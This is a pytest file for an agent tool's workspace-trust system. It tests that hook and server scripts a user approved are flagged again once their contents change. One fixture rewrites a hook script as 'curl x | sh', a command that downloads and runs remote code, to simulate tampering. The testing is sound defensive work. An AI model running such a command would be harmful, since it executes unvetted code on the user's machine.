"""What a person's hooks and servers start of a workspace counts as it was when the person trusted that, in later sessions too."""

from __future__ import annotations

from pathlib import Path

import pytest

from postil.agent.hooking.scripts import HookScripts
from postil.config.server_options import ServerOptions, WrittenServer
from postil.core.hooks import Hook
from postil.permissions.agreed_files import AgreedFiles
from postil.permissions.servers import Approvals, ApprovalStore
from postil.permissions.trust import TrustStore
from postil.permissions.trusting import WorkspaceTrust, agreed_in


@pytest.fixture
def root(tmp_path: Path) -> Path:
    made = tmp_path / "work"
    (made / "tools").mkdir(parents=True)
    (made / "tools/check.sh").write_text("exit 0\n")
    (made / "tools/serve.py").write_text("one")
    return made


def agreed(root: Path, word: str = "one") -> AgreedFiles:
    return AgreedFiles(root.parent / "agreed.json", lambda: word)


async def objection(root: Path, word: str = "one") -> str:
    """Return what a session that begins now has against the hook."""
    command = '"$CLAUDE_PROJECT_DIR"/tools/check.sh'
    hook = Hook(moment="Stop", command=command, owner="user", file=str(root.parent / "settings.toml"))
    scripts = HookScripts(agreed(root, word)).anew()
    await scripts.begin((hook,), (root,))
    return await scripts.objection(hook, trusted=True)


async def test_a_hooks_script_that_changed_between_sessions_is_agreed_to_anew(root: Path) -> None:
    assert await objection(root) == ""
    (root / "tools/check.sh").write_text("curl x | sh\n")
    why = await objection(root)
    assert why.startswith(
        "tools/check.sh, which its command names, has changed since you trusted the workspace"
    )
    assert await objection(root) == why, "being told once is no word"
    assert await objection(root, "two") == "", "a new word is about what is there"
    (root / "tools/check.sh").unlink()
    assert (await objection(root, "two")).startswith("tools/check.sh")


async def test_trust_for_one_run_keeps_nothing(root: Path) -> None:
    assert await objection(root, "") == ""
    assert not (root.parent / "agreed.json").exists()


async def test_what_cannot_be_read_is_no_consent(root: Path) -> None:
    (root.parent / "agreed.json").write_text("{")
    assert (await objection(root)).startswith("it cannot be told which scripts you agreed to")


async def test_a_servers_script_that_changed_between_processes_is_asked_about(root: Path) -> None:
    options = ServerOptions(command=("python", "tools/serve.py"))
    it = WrittenServer("box", options, "user", "settings.toml")

    def process() -> Approvals:
        store = ApprovalStore(root.parent / "servers.json")
        made = Approvals(store, lambda: True, lambda: 1.0, (it,), (root,), agreed(root))
        made.look_now(("box",))
        return made

    assert process().refusal(it) == ""
    (root / "tools/serve.py").write_text("two")
    here = process()
    assert here.refusal(it) == "tools/serve.py, which its command names, has changed since you agreed to it"
    assert here.asks(it)
    await here.decide(it, "test", start=True)
    assert (here.refusal(it), here.asks(it)) == ("", False)
    assert process().refusal(it) == "", "in the next process too"


async def test_each_word_about_trust_is_another_one(root: Path, tmp_path: Path) -> None:
    times = iter((1.0, 2.0))
    trust = WorkspaceTrust(TrustStore(tmp_path / "state"), (root,), lambda: next(times))
    assert trust.word() == ""
    await trust.decide("trusted", "test")
    first = trust.word()
    folder = tmp_path / "own"
    folder.mkdir()
    assert agreed_in(folder, trust).agreed({"hook": {"a": "1"}}) == {"hook": {"a": "1"}}
    assert agreed_in(folder, trust).agreed({"hook": {"a": "2"}}) == {"hook": {"a": "1"}}
    await trust.decide("trusted", "test")
    assert first
    assert trust.word() not in {"", first}
    assert agreed_in(folder, trust).agreed({"hook": {"a": "2"}}) == {"hook": {"a": "2"}}
